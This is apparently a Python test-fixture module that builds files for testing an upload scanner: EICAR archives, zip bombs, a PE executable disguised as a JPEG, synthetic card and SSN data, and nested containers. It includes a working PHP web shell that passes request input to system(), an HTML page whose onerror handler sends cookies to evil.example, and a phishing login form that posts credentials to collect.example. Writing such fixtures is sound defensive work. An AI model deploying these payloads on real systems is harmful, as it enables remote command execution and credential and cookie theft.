"""Files the upload tests build: malware test files, disguised executables, pages, PII, media, archives.

Everything is generated here (no binary fixtures in the repository); card numbers, SSNs and IBANs are
synthetic values that pass the validators, never real people's data.
"""

from __future__ import annotations

import io
import random
import zipfile

from tests.eval.files import Cell, email_with, nested_zip_bomb, text_pdf, xls, xlsb, xlsx  # noqa: F401 - the eval corpus's builders

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def eicar_zipped() -> bytes:
    return zip_bytes({"readme.txt": b"quarterly numbers\n", "tools/eicar.com": EICAR})


def eicar_nested() -> bytes:
    return zip_bytes({"bundle/inner.zip": zip_bytes({"deep/eicar.com": EICAR}), "notes.txt": b"nothing here"})


def pe_executable() -> bytes:
    """A minimal PE image: DOS header pointing at a PE signature and a COFF header."""
    dos = bytearray(b"MZ" + b"\x90" * 0x3A + (0x80).to_bytes(4, "little"))
    dos += b"\x00" * (0x80 - len(dos))
    coff = b"PE\x00\x00" + (0x14C).to_bytes(2, "little") + b"\x01\x00" + b"\x00" * 16
    return bytes(dos) + coff + b"\x00" * 512


def html_onerror_exfiltration() -> bytes:
    return (
        b"<!doctype html><html><head><title>Invoice</title></head><body>"
        b"<p>Your invoice is attached.</p>"
        b'<img src="x" onerror="new Image().src=\'https://evil.example/c?\'+document.cookie">'
        b"</body></html>"
    )


def hidden_trademark_page() -> bytes:
    return (
        b'<html><head><meta name="keywords" content="cheap sensors, CIMCON, iot">'
        b"<style>.seo { display: none }</style></head><body>"
        b"<h1>Best sensors in town</h1><p>We sell industrial sensors.</p>"
        b'<div style="display:none">CIMCON CIMCON official partner</div>'
        b'<span class="seo">cimcon discount</span>'
        b'<p style="color:#ffffff;background:#ffffff">CIMCON</p>'
        b"</body></html>"
    )


def phishing_page() -> bytes:
    return (
        b"<html><head><title>Sign in to your PayPal account</title></head><body>"
        b'<h2>PayPal</h2><form action="https://collect.example/login" method="post">'
        b'<input name="email"><input type="password" name="pw"><button>Log in</button></form>'
        b"</body></html>"
    )


def _luhn_complete(prefix: str, length: int, rng: random.Random) -> str:
    body = prefix + "".join(str(rng.randrange(10)) for _ in range(length - len(prefix) - 1))
    total = 0
    for i, ch in enumerate(reversed(body)):
        d = int(ch)
        if i % 2 == 0:
            d = d * 2 - 9 if d * 2 > 9 else d * 2
        total += d
    return body + str((10 - total % 10) % 10)


def valid_cards(n: int, seed: int = 7) -> list[str]:
    rng = random.Random(seed)
    prefixes = [("4", 16), ("51", 16), ("37", 15), ("6011", 16)]
    return [_luhn_complete(*prefixes[i % len(prefixes)], rng) for i in range(n)]


def cards_csv(n: int = 40) -> bytes:
    rows = ["name,card,expiry"]
    for i, card in enumerate(valid_cards(n)):
        formatted = " ".join(card[j : j + 4] for j in range(0, len(card), 4)) if i % 2 else card
        rows.append(f"Customer {i},{formatted},0{1 + i % 9}/29")
    return ("\n".join(rows) + "\n").encode()


def valid_ssns(n: int, seed: int = 11) -> list[str]:
    rng = random.Random(seed)
    out = []
    while len(out) < n:
        area = rng.randrange(1, 900)
        if area == 666:
            continue
        out.append(f"{area:03d}-{rng.randrange(1, 100):02d}-{rng.randrange(1, 10000):04d}")
    return out


def ssn_csv(n: int = 30) -> bytes:
    rows = ["employee,ssn,department"] + [f"Employee {i},{s},ops" for i, s in enumerate(valid_ssns(n))]
    return ("\n".join(rows) + "\n").encode()


def iban(country: str, bban: str) -> str:
    numeric = "".join(str(int(c, 36)) for c in bban + country + "00")
    check = 98 - int(numeric) % 97
    return f"{country}{check:02d}{bban}"


def business_csv() -> bytes:
    """Near misses: order numbers of 16 digits failing Luhn, invalid SSN-shaped codes, few contacts."""
    rows = ["order_id,customer,contact,amount,ref"]
    rng = random.Random(3)
    n = 0
    while n < 60:
        digits = "".join(str(rng.randrange(10)) for _ in range(16))
        total = sum(
            (int(c) * 2 - 9 if int(c) * 2 > 9 else int(c) * 2) if i % 2 else int(c)
            for i, c in enumerate(reversed(digits))
        )
        if total % 10 == 0:
            continue  # keep only numbers that fail Luhn: order ids, not cards
        contact = ["sales@acme-corp.example", "billing@acme-corp.example", "ops@acme-corp.example"][n % 3]
        rows.append(f"{digits},Client {n},{contact},{rng.randrange(100, 9999)}.00,000-{n % 90 + 10:02d}-1234")
        n += 1
    return ("\n".join(rows) + "\n").encode()


def mp4_video(size: int) -> bytes:
    head = (24).to_bytes(4, "big") + b"ftypisom" + b"\x00\x00\x02\x00isomiso2"
    mdat_len = size - len(head)
    return (
        head + mdat_len.to_bytes(4, "big") + b"mdat" + bytes(random.Random(1).randbytes(max(0, mdat_len - 8)))
    )


def mp3_audio(size: int) -> bytes:
    return b"ID3\x04\x00\x00\x00\x00\x00\x00" + random.Random(2).randbytes(size - 10)


def zip_bomb(expanded: int = 64 * 1024 * 1024) -> bytes:
    buf = io.BytesIO()
    block = b"\x00" * (1024 * 1024)
    with (
        zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf,
        zf.open("zeros.bin", "w", force_zip64=True) as member,
    ):
        for _ in range(expanded // len(block)):
            member.write(block)
    return buf.getvalue()


def encrypted_zip() -> bytes:
    """A zip whose member carries the 'encrypted' flag (zipfile cannot write ZipCrypto; the flag is what
    readers and scanners go by)."""
    data = bytearray(zip_bytes({"secret.docx": b"\x8a\x13" * 500}, zipfile.ZIP_STORED))
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    data[local + 6] |= 0x01
    data[central + 8] |= 0x01
    return bytes(data)


# --- containers (issue "Attacks that get through today", 1) ------------------------------------------


def gzip_bytes(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data, mtime=0)


def xz_bytes(data: bytes) -> bytes:
    import lzma

    return lzma.compress(data)


def bz2_bytes(data: bytes) -> bytes:
    import bz2

    return bz2.compress(data)


def tar_bytes(members: dict[str, bytes]) -> bytes:
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def jpeg_image(size: int = 4096) -> bytes:
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + random.Random(4).randbytes(size) + b"\xff\xd9"


def seven_zip(members: dict[str, bytes]) -> bytes:
    import py7zr

    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        for name, data in members.items():
            archive.writestr(data, name)
    return buf.getvalue()


def broken_seven_zip(payload: bytes) -> bytes:
    """A 7z signature header followed by garbage: no reader opens it."""
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24 + payload


def utf16(data: bytes, bom: bool = True) -> bytes:
    text = data.decode("utf-8")
    return ("\ufeff" + text).encode("utf-16-le") if bom else text.encode("utf-16-le")


CONTAINERS = {
    "plain": lambda name, data: (name, data),
    "zip": lambda name, data: ("bundle.zip", zip_bytes({name: data})),
    "zip-after-jpeg": lambda name, data: ("photo.jpg", jpeg_image() + zip_bytes({name: data})),
    "zip-after-junk": lambda name, data: ("bundle.bin", b"\x13\x37junk!" + zip_bytes({name: data})),
    "zip-in-gzip": lambda name, data: ("bundle.zip.gz", gzip_bytes(zip_bytes({name: data}))),
    "gzip-in-gzip": lambda name, data: (name + ".gz.gz", gzip_bytes(gzip_bytes(data))),
    "zip-in-xz": lambda name, data: ("bundle.zip.xz", xz_bytes(zip_bytes({name: data}))),
    "bz2": lambda name, data: (name + ".bz2", bz2_bytes(data)),
    "tar": lambda name, data: ("bundle.tar", tar_bytes({"dir/" + name: data})),
    "tar.gz": lambda name, data: ("bundle.tar.gz", gzip_bytes(tar_bytes({"dir/" + name: data}))),
    "zip-in-zip-in-zip": lambda name, data: (
        "outer.zip",
        zip_bytes({"mid.zip": zip_bytes({"inner.zip": zip_bytes({name: data})})}),
    ),
    "7z": lambda name, data: ("bundle.7z", seven_zip({"docs/" + name: data})),
    "7z-in-gzip": lambda name, data: ("bundle.7z.gz", gzip_bytes(seven_zip({name: data}))),
    "broken-7z-in-gzip": lambda name, data: ("bundle.7z.gz", gzip_bytes(broken_seven_zip(data))),
}


def php_webshell() -> bytes:
    return b"<?php if(isset($_REQUEST['c'])){ system($_REQUEST['c']); } ?>\n"


def payloads() -> dict[str, tuple[str, bytes]]:
    return {
        "eicar": ("eicar.com", EICAR),
        "cards": ("customers.csv", cards_csv(40)),
        "ssns": ("staff.csv", ssn_csv(30)),
        "cards-utf16": ("customers.txt", utf16(cards_csv(40))),
        "ssns-utf16-no-bom": ("staff.txt", utf16(ssn_csv(30), bom=False)),
        "onerror-page": ("invoice.html", html_onerror_exfiltration()),
        "pe-as-jpg": ("holiday.jpg", pe_executable()),
        "webshell": ("upload.php", php_webshell()),
    }


def overlapping_zip_bomb(entries: int = 200, kernel_bytes: int = 16 * 1024 * 1024) -> bytes:
    """David Fifield's construction, simplified: many central-directory entries whose local headers all
    point into one shared deflate stream, so each entry inflates the same kernel (a few KB on disk)."""
    import struct
    import zlib

    raw = b"\x00" * kernel_bytes
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = comp.compress(raw) + comp.flush()
    crc = zlib.crc32(raw)
    local_headers = b""
    central = b""
    offsets = []
    for i in range(entries):
        name = f"{i:04d}.bin".encode()
        offsets.append(len(local_headers))
        local_headers += (
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0, crc, len(body), len(raw), len(name), 0)
            + name
        )
    data_at = len(local_headers)
    out = bytearray(local_headers)
    # Every local header claims the same body, which follows the last header: rewrite each header's
    # position so its data starts at data_at (the headers overlap the following headers).
    out += body
    for i in range(entries):
        name = f"{i:04d}.bin".encode()
        central += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                8,
                0,
                0,
                crc,
                len(body),
                len(raw),
                len(name),
                0,
                0,
                0,
                0,
                0,
                # point all entries at the last local header, whose data is the shared body
                offsets[-1],
            )
            + name
        )
    cd_at = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, entries, entries, len(central), cd_at, 0)
    del data_at
    return bytes(out)
